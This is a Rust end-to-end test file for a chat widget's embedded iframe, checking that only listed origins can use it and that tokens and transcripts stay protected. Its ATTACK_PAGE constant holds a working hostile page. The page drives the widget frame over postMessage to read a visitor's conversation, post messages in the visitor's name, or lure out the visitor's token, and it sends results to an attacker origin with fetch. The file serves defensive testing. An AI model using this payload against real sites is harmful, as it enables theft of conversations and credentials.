//! Tests of the frame, the iframe (`frame.html`) that holds the widget's panel where a page does not allow WebAssembly.
//! The frame must obey only pages whose origin its deployment lists. In the first tests a hostile page loads the frame
//! of a shop and tries to use it: to read the visitor's conversation, to write in it, or to get the visitor's token.

use std::collections::BTreeSet;
use std::path::Path;

use pipit_e2e::{AgentAtDesk, Capability, Recorder, TestServer, Visitor, is_unsupported, wait_for};
use serde_json::{Value, json};

/// The page of the shop, which embeds the widget.
const SHOP_PAGE: &str = r#"<!doctype html><html lang="en"><body>
    <script src="/pipit/pipit.js" data-session-endpoint="/chat-session"></script></body></html>"#;

/// The hostile page. It embeds the shop's frame, gives it a port as a page with the widget does, and calls commands
/// over the port. It sends every message of the frame to the origin `report`: those from the port to `/obtained`, the
/// others to `/offer`. The page's query contains the attack as JSON.
const ATTACK_PAGE: &str = r#"<!doctype html><html lang="en"><body><script>
    const { address, report, options, answers, text } = JSON.parse(decodeURIComponent(location.search.slice(1)));
    const sendReport = (path, body) => fetch(report + path, { method: "POST", mode: "no-cors", body: JSON.stringify(body) });
    const frame = document.createElement("iframe");
    const callCommands = () => {
        const { port1, port2 } = new MessageChannel();
        const start = { options, has: {}, mode: "page" };
        let lastId = 0;
        const call = (name, ...values) => port1.postMessage({ id: ++lastId, name, values });
        port1.onmessage = ({ data }) => sendReport("/obtained", data);
        frame.contentWindow.postMessage({ pipit: "n1", ...start }, "*", [port2]);
        call("begin", start);
        call("open");
        call(text ? "send" : "startChat", text ?? answers);
        setInterval(() => call("transcript"), 200);
    };
    let isRefused = false;
    addEventListener("message", ({ source, data }) => {
        if (source !== frame.contentWindow) return;
        isRefused ||= "refused" in data;
        sendReport("/offer", data);
        if ("runs" in data) callCommands();
    });
    // The page also calls commands without an offer of the frame. Then it waits for answers: 1 s if the frame has
    // refused the page, otherwise 5 s.
    frame.onload = () => { callCommands(); setTimeout(() => sendReport("/done", {}), isRefused ? 1000 : 5000); };
    frame.src = `${address}#n1`;
    document.body.append(frame);
</script></body></html>"#;

/// A page of the shop that embeds the hostile page in an iframe with the attribute `sandbox`, as for content of strangers.
const SANDBOX_PAGE: &str = r#"<!doctype html><html lang="en"><body><script>
    const frame = document.createElement("iframe");
    frame.sandbox = "allow-scripts";
    frame.src = "/attack.html" + location.search;
    document.body.append(frame);
</script></body></html>"#;

/// A shop with the widget, a visitor of the shop in a conversation, and the attacker's server.
struct Scene {
    server: TestServer,
    shop: Recorder,
    attacker: Recorder,
    visitor: Visitor,
    agent: AgentAtDesk,
}

impl Scene {
    /// Starts the servers, and a conversation in which the agent has written a secret code.
    async fn start() -> Self {
        let server = TestServer::with_page("").await;
        let session = format!("{}/session", server.site());
        let shop = Recorder::start(&session).await;
        let attacker = Recorder::start(&session).await;
        shop.serve("/shop.html", SHOP_PAGE);
        shop.serve("/sandbox.html", SANDBOX_PAGE);
        for recorder in [&shop, &attacker] {
            recorder.serve("/attack.html", ATTACK_PAGE);
        }
        let visitor = server.visitor().await;
        let page = format!("{}/shop.html", shop.origin());
        visitor.browser.open_page(&page).await;
        visitor.start_chat().await;
        let agent = server.agent().await;
        agent.accept().await;
        visitor.find(".avatar.here").await;
        agent.send_message("the code is 4471").await;
        visitor.wait_for_last_message("< the code is 4471").await;
        Self {
            server,
            shop,
            attacker,
            visitor,
            agent,
        }
    }

    /// Opens a page with an attack in the visitor's current window, and waits until the attack is over.
    async fn attack(&self, page: &str, attack: &Value) {
        let attacks_before = self.attacker.posted_bodies("/done").len();
        let query = self
            .visitor
            .browser
            .script(
                "return encodeURIComponent(arguments[0])",
                vec![json!(attack.to_string())],
            )
            .await;
        let query = query.as_str().unwrap_or_default();
        self.visitor
            .browser
            .open_page(&format!("{page}?{query}"))
            .await;
        wait_for("the end of the attack", || async {
            (self.attacker.posted_bodies("/done").len() > attacks_before).then_some(())
        })
        .await;
    }

    /// Closes the browsers and the server.
    async fn end(self) {
        drop(self.server);
        self.agent.browser.close().await;
        self.visitor.browser.close().await;
    }
}

/// The attacks: the options that the hostile page gives to the frame, and the text that it sends, if any.
fn attacks(attacker: &Recorder) -> [Value; 4] {
    let attacker_url = attacker.origin();
    [
        // Reads the transcript of the conversation in the visitor's other tab.
        json!({ "options": { "sessionEndpoint": "/chat-session" } }),
        // Sends a message in the visitor's name.
        json!({ "options": { "sessionEndpoint": "/chat-session" }, "text": "sent by a stranger" }),
        // Makes the frame fetch the visitor's token and send it to the attacker's server.
        json!({ "options": { "sessionEndpoint": "/chat-session", "baseUrl": attacker_url, "site": "c" } }),
        // Makes the frame send JSON of the attacker's choice to a path of the shop.
        json!({ "options": { "sessionEndpoint": "/orders", "prefill": { "amount": 1 } } }),
    ]
}

/// What the hostile page has obtained. "an answer" is any message of the frame over the port; "an offer" is a message
/// which says that the frame runs.
async fn obtained(scene: &Scene) -> BTreeSet<&'static str> {
    let requests_to_attacker = scene.attacker.requests();
    let requests_to_shop = scene.shop.requests();
    let conversation = scene.agent.conversation().await;
    let found = [
        (
            "the transcript",
            scene
                .attacker
                .posted_bodies("/obtained")
                .iter()
                .any(|body| body.contains("4471")),
        ),
        (
            "a message in the visitor's name",
            conversation.iter().any(|line| line.contains("stranger")),
        ),
        (
            "the token",
            requests_to_attacker
                .iter()
                .any(|request| request.header("authorization").is_some()),
        ),
        (
            "a request of its choice",
            requests_to_shop
                .iter()
                .any(|request| request.path == "/orders"),
        ),
        (
            "an answer",
            !scene.attacker.posted_bodies("/obtained").is_empty(),
        ),
        (
            "an offer",
            scene
                .attacker
                .posted_bodies("/offer")
                .iter()
                .any(|body| body.contains("runs")),
        ),
    ];
    found
        .into_iter()
        .filter_map(|(name, is_obtained)| is_obtained.then_some(name))
        .collect()
}

/// Plays all attacks from a page, and checks that it obtains nothing. An offer is allowed: it only says that the file
/// exists. The frame makes it if the browser does not name the embedding page.
async fn check_that_nothing_is_obtained_by(page: impl Fn(&Scene) -> String) {
    let scene = Scene::start().await;
    let attacks = attacks(&scene.attacker);
    let session_requests = scene.shop.posted_bodies("/chat-session").len();
    scene
        .visitor
        .browser
        .open_second_window("about:blank")
        .await;
    for mut attack in attacks {
        attack["address"] = json!(format!("{}/pipit/frame.html", scene.shop.origin()));
        attack["report"] = json!(scene.attacker.origin());
        scene.attack(&page(&scene), &attack).await;
    }
    let mut obtained = obtained(&scene).await;
    obtained.remove("an offer");
    assert_eq!(obtained, BTreeSet::new());
    assert_eq!(
        scene.shop.posted_bodies("/chat-session").len(),
        session_requests
    );
    scene.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_foreign_origin_of_the_same_site_obtains_nothing() {
    check_that_nothing_is_obtained_by(|scene| format!("{}/attack.html", scene.attacker.origin()))
        .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn another_site_obtains_nothing() {
    check_that_nothing_is_obtained_by(|scene| {
        format!("{}/attack.html", scene.attacker.other_site())
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_sandboxed_frame_obtains_nothing() {
    check_that_nothing_is_obtained_by(|scene| format!("{}/sandbox.html", scene.shop.origin()))
        .await;
}

/// A page that loads the widget's files from the shop, and whose Content-Security-Policy does not allow WebAssembly. It
/// is served by another origin. The widget has to use the frame on it.
/// `script` runs before the widget's.
fn blog_page(shop: &Recorder, script: &str) -> String {
    let origin = shop.origin();
    format!(
        r#"<!doctype html><html lang="en"><head>
        <meta http-equiv="Content-Security-Policy" content="script-src {origin} 'unsafe-inline'">
        </head><body><script>{script}</script><script src="{origin}/listed/pipit.js"
            data-contact="tel:+123456"></script></body></html>"#
    )
}

/// A script by which the blog page's own server provides sessions.
const OWN_SESSIONS: &str = "window.Pipit = { config: { sessionEndpoint: '/chat-session' } }";

#[tokio::test(flavor = "multi_thread")]
async fn a_listed_page_has_a_conversation_of_its_own_in_the_frame_without_cookies() {
    let scene = Scene::start().await;
    let browser = &scene.visitor.browser;
    for blog_origin in [scene.attacker.origin(), scene.attacker.other_site()] {
        scene
            .shop
            .set_frame_lists(&blog_origin, &scene.server.api());
        scene
            .attacker
            .serve("/blog.html", &blog_page(&scene.shop, OWN_SESSIONS));
        browser
            .open_second_window(&format!("{blog_origin}/blog.html"))
            .await;
        let count_before = scene.shop.requests().len();
        let send = "Pipit.send('from the blog').then(() => arguments[0](null), ({ code }) => arguments[0](code))";
        assert_eq!(browser.script_async(send, vec![]).await, Value::Null);
        let state = async || {
            browser
                .script("return Pipit.getState().state", vec![])
                .await
        };
        browser
            .wait_until_equal("the state", json!("queued"), state)
            .await;
        // The blog page itself fetches the session, from its own server. The frame has requested only files of the
        // shop, and without cookies.
        let requests = scene.shop.requests().split_off(count_before);
        assert!(requests.iter().all(|it| it.method == "GET"), "{requests:?}");
        let modules = requests.iter().filter(|it| {
            Path::new(&it.path)
                .extension()
                .is_some_and(|it| it == "wasm")
        });
        let with_cookies = modules.filter(|it| it.header("cookie").is_some());
        assert_eq!(with_cookies.count(), 0);
        // The frame does not show the conversation of the tab with the shop.
        let transcript = browser
            .script_async("Pipit.transcript().then(arguments[0])", vec![])
            .await;
        let transcript = transcript.to_string();
        assert!(transcript.contains("from the blog"), "{transcript}");
        assert!(!transcript.contains("4471"), "{transcript}");
    }
    let messages = scene.agent.conversation().await;
    assert!(!messages.concat().contains("blog"), "{messages:?}");
    scene.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn an_unlisted_page_shows_other_contacts_and_the_doctor_says_how_to_list_it() {
    let scene = Scene::start().await;
    scene
        .attacker
        .serve("/blog.html", &blog_page(&scene.shop, OWN_SESSIONS));
    let browser = &scene.visitor.browser;
    let page = format!("{}/blog.html", scene.attacker.origin());
    browser.open_second_window(&page).await;
    scene.visitor.open_panel().await;
    scene.visitor.part("contact").await;
    let doctor =
        "Pipit.doctor().then(found => arguments[0](found.find(it => it.check === 'frame').fix))";
    let fix = browser.script_async(doctor, vec![]).await;
    let expected = format!(
        "Build the widget's files with: cargo xtask bundle --frame-origins {}",
        scene.attacker.origin()
    );
    assert_eq!(fix, json!(expected));
    scene.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn the_doctor_judges_the_header_of_frame_html() {
    let scene = Scene::start().await;
    let origin = scene.shop.origin();
    for (policy, problem) in [
        (
            String::new(),
            "frame.html comes without `frame-ancestors`, so every site may show it.".to_owned(),
        ),
        (
            "frame-ancestors 'none'".to_owned(),
            format!(
                "The header `frame-ancestors` of frame.html does not have {origin}, so the browser does not show the frame there."
            ),
        ),
        (
            "default-src 'self'; frame-ancestors 'self' http:".to_owned(),
            "The header `frame-ancestors` of frame.html has http:, so more pages may show the frame than the file lists."
                .to_owned(),
        ),
    ] {
        scene.shop.set_frame_policy(&policy);
        let expected = json!({
            "check": "frame",
            "isFine": false,
            "problem": "frame-header",
            "message": problem,
            "fix": "Its server has to send Content-Security-Policy: frame-ancestors 'self'",
        });
        assert_eq!(frame_finding(&scene.visitor).await, expected);
    }
    scene.shop.set_frame_policy("frame-ancestors 'self'");
    assert_eq!(frame_finding(&scene.visitor).await["isFine"], json!(true));
    scene.end().await;
}

/// What the command `doctor` finds out about the frame.
async fn frame_finding(visitor: &Visitor) -> Value {
    let doctor =
        "Pipit.doctor().then(found => arguments[0](found.find(it => it.check === 'frame')))";
    visitor.browser.script_async(doctor, vec![]).await
}

/// Opens the page of the blog, which embeds the frame, in the visitor's window. `script` is a script of the page.
async fn open_blog(scene: &Scene, script: &str) {
    let page = blog_page(&scene.shop, script);
    scene.attacker.serve("/blog.html", &page);
    let address = format!("{}/blog.html", scene.attacker.origin());
    scene.visitor.browser.open_page(&address).await;
}

/// Starts a chat by the page's command; the result is the code of the error, or `null`.
const START_CHAT: &str =
    "Pipit.startChat().then(() => arguments[0](null), ({ code }) => arguments[0](code))";

/// Waits until the chat of the page is in this state.
async fn wait_for_state(visitor: &Visitor, expected: &str) {
    let state = async || {
        let state = "return Pipit.getState().state";
        visitor.browser.script(state, vec![]).await
    };
    let expected = json!(expected);
    visitor
        .browser
        .wait_until_equal("the state", expected, state)
        .await;
}

/// The frame connects to the chat server that the embedding page names only if the deployment lists that server. The page
/// can name it by an option and by the session.
#[tokio::test(flavor = "multi_thread")]
async fn in_the_frame_only_listed_chat_servers_can_be_used() {
    let scene = Scene::start().await;
    let blog_origin = scene.attacker.origin();
    let browser = &scene.visitor.browser;
    browser.open_second_window("about:blank").await;
    let chat_server = scene.server.api();
    let by_option = format!(
        "window.Pipit = {{ config: {{ sessionEndpoint: '/chat-session', baseUrl: '{chat_server}' }} }}"
    );
    for (listed_servers, expected) in [("", json!("E_OPTION")), (&*chat_server, Value::Null)] {
        scene.shop.set_frame_lists(&blog_origin, listed_servers);
        open_blog(&scene, &by_option).await;
        let started = browser.script_async(START_CHAT, vec![]).await;
        assert_eq!(started, expected, "{listed_servers}");
    }
    browser
        .script_async(
            "Pipit.endChat().then(() => Pipit.destroy()).then(arguments[0])",
            vec![],
        )
        .await;

    // The session names the server of the blog itself. Nothing is sent to it, by no way: a frame that refuses a request
    // must not take the refusal for a `fetch` that a script of the page has broken.
    let port = blog_origin.rsplit(':').next().unwrap_or_default();
    let session = format!(
        "{{ jwt: 'a.b.c', siteName: 'blog', pool: '1:1', domain: '127.0.0.1', port: {port} }}"
    );
    let by_session = format!("window.Pipit = {{ config: {{ getSession: () => ({session}) }} }}");
    for listed_servers in ["", &*chat_server] {
        scene.shop.set_frame_lists(&blog_origin, listed_servers);
        open_blog(&scene, &by_session).await;
        let started = browser.script_async(START_CHAT, vec![]).await;
        assert_eq!(started, Value::Null, "{listed_servers}");
        wait_for_state(&scene.visitor, "failed").await;
        let requests = scene.attacker.requests();
        let sent: Vec<_> = requests
            .iter()
            .filter(|it| it.path.contains("/engagement/"))
            .collect();
        assert!(sent.is_empty(), "{listed_servers}: {sent:?}");
    }
    scene.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn in_the_frame_a_chat_starts_with_a_token_of_the_page_which_only_the_chat_server_gets() {
    let scene = Scene::start().await;
    let browser = &scene.visitor.browser;
    browser.open_second_window("about:blank").await;
    scene
        .shop
        .set_frame_lists(&scene.attacker.origin(), &scene.server.api());
    let token = scene.server.token().await;
    let config = json!({ "jwt": token, "baseUrl": scene.server.api(), "site": "pipit_demo", "pool": "297:1" });
    let page_of_the_token = format!("window.Pipit = {{ config: {config} }}");
    open_blog(&scene, &page_of_the_token).await;
    assert_eq!(browser.script_async(START_CHAT, vec![]).await, Value::Null);
    wait_for_state(&scene.visitor, "queued").await;
    let kept = "return JSON.stringify([location.href, { ...sessionStorage }, { ...localStorage }, document.cookie])";
    let mut seen = browser.script(kept, vec![]).await.to_string();
    scene.visitor.click("launcher").await;
    scene.visitor.enter_frame().await;
    seen += &browser.script(kept, vec![]).await.to_string();
    let requests = [scene.shop.requests(), scene.attacker.requests()];
    assert!(!seen.contains(&token), "the token is in {seen}");
    let requests = format!("{requests:?}");
    assert!(!requests.contains(&token), "the token is in {requests}");
    scene.visitor.leave_frame().await;
    scene.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn in_the_frame_a_message_can_be_left_which_the_page_itself_sends() {
    if is_unsupported(Capability::FormsInFrames) {
        return;
    }
    let scene = Scene::start().await;
    let (visitor, shop, blog) = (&scene.visitor, &scene.shop, &scene.attacker);
    visitor.browser.open_second_window("about:blank").await;
    shop.set_frame_lists(&blog.origin(), &scene.server.api());
    let options = json!({ "sessionEndpoint": "/chat-session", "messageEndpoint": "/message", "whenNoAgents": "form" });
    let no_agents = "Pipit.config.availability = () => 'noAgents'";
    open_blog(
        &scene,
        &format!("window.Pipit = {{ config: {options} }}; {no_agents}"),
    )
    .await;
    visitor.click("launcher").await;
    visitor.enter_frame().await;
    let (mail, question) = ("mia@example.com", "When are you there?");
    visitor.leave_message(mail, question).await;
    let thanks = "Thank you! We received your message";
    visitor
        .wait_for_text("[part~=message-sent] h3", thanks)
        .await;
    visitor.leave_frame().await;
    let message = json!({ "emailAddress": mail, "question": question });
    let posts = blog.posted_bodies("/message");
    let posts = posts.iter().filter_map(|it| serde_json::from_str(it).ok());
    assert_eq!(posts.collect::<Vec<Value>>(), [message]);
    assert_eq!(shop.posted_bodies("/message"), Vec::<String>::new());
    scene.end().await;
}
